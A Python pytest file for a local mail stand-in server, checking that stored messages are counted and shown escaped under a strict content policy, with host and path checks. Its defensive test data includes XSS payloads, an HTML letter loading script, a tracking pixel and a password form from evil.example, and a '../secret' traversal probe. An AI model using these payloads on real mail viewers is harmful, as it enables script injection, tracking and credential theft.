"""The mail stand-in: it keeps, counts and shows what would have been sent, and runs nothing of it."""

import json
import re
import smtplib
from email.message import EmailMessage
from urllib.parse import quote

import pytest

from avrr import mailbox
from avrr.folder import free_port
from tests.test_running import get


@pytest.fixture
def post(tmp_path):
    smtp_port, http_port = free_port(), free_port()
    _, stop = mailbox.serve(tmp_path / "mail", smtp_port, http_port)
    yield smtp_port, f"http://127.0.0.1:{http_port}", tmp_path / "mail"
    stop()


def send(port, message_id="<notice-1@host.example>"):
    message = EmailMessage()
    message["From"], message["To"] = "homeward@host.example", "amina@host.example"
    message["Subject"], message["Message-ID"] = "<script>alert(1)</script>", message_id
    message.set_content("Something waits for you: <b>é</b>\n.\nEnd")
    with smtplib.SMTP("127.0.0.1", port, timeout=5) as smtp:
        smtp.send_message(message)


def test_mail_is_kept_counted_and_shown_escaped(post):
    smtp_port, address, folder = post
    send(smtp_port)
    send(smtp_port)
    send(smtp_port, "<notice-2@host.example>")
    ledger = json.loads(get(f"{address}/ledger.json")[1])
    assert {letter["message_id"]: letter["copies"] for letter in ledger} == {
        "<notice-1@host.example>": 2,
        "<notice-2@host.example>": 1,
    }
    assert ledger[0]["recipients"] == ["amina@host.example"]
    _, page, headers = get(f"{address}/")
    assert "<script>" not in page and "&lt;script&gt;alert(1)" in page and "&lt;notice-1@host.example&gt;" in page
    assert headers["Content-Security-Policy"].startswith("default-src 'none'")
    _, letter, _ = get(f"{address}/letter/%3Cnotice-1%40host.example%3E")
    assert "Something waits for you: &lt;b&gt;é&lt;/b&gt;\n.\nEnd" in letter
    assert len(mailbox.Mailbox(folder).letters()) == 2


def test_the_mail_page_answers_this_machine_only(post):
    assert get(f"{post[1]}/", Host="evil.example")[0] == 403
    assert get(f"{post[1]}/../secret")[0] == 404


HOSTILE = """<html><head><base href="https://evil.example/"><style>body { display: none }</style></head>
<body onload="alert(1)"></pre></body></html><script src="https://evil.example/x.js"></script>
<img src="https://evil.example/pixel?who=amina"><form action="https://evil.example/"><input name="password"></form>"""


@pytest.mark.parametrize("kind", ["html", "plain"])
def test_a_hostile_letter_is_read_as_text(post, kind):
    smtp_port, address, _folder = post
    message = EmailMessage()
    message["From"], message["To"] = '"</td><script>alert(2)</script>" <x@evil.example>', "amina@host.example"
    message["Subject"] = "</title><img src=https://evil.example/pixel>"
    message["Message-ID"] = '<"><script>alert(3)</script>@evil.example>'
    message.set_content(HOSTILE, subtype=kind)
    with smtplib.SMTP("127.0.0.1", smtp_port, timeout=5) as smtp:
        smtp.send_message(message)
    (letter,) = json.loads(get(f"{address}/ledger.json")[1])
    for path in ("/", f"/letter/{quote(letter['message_id'], safe='')}"):
        status, page, headers = get(f"{address}{path}")
        assert status == 200 and headers["Content-Security-Policy"].startswith("default-src 'none'")
        tags = set(re.findall(r"<\s*/?\s*(\w+)", page))
        assert not tags & {"script", "img", "form", "input", "base", "iframe"}, tags
        assert page.count("<style") == page.count('onload="') == 0
    assert "evil.example/x.js" in page
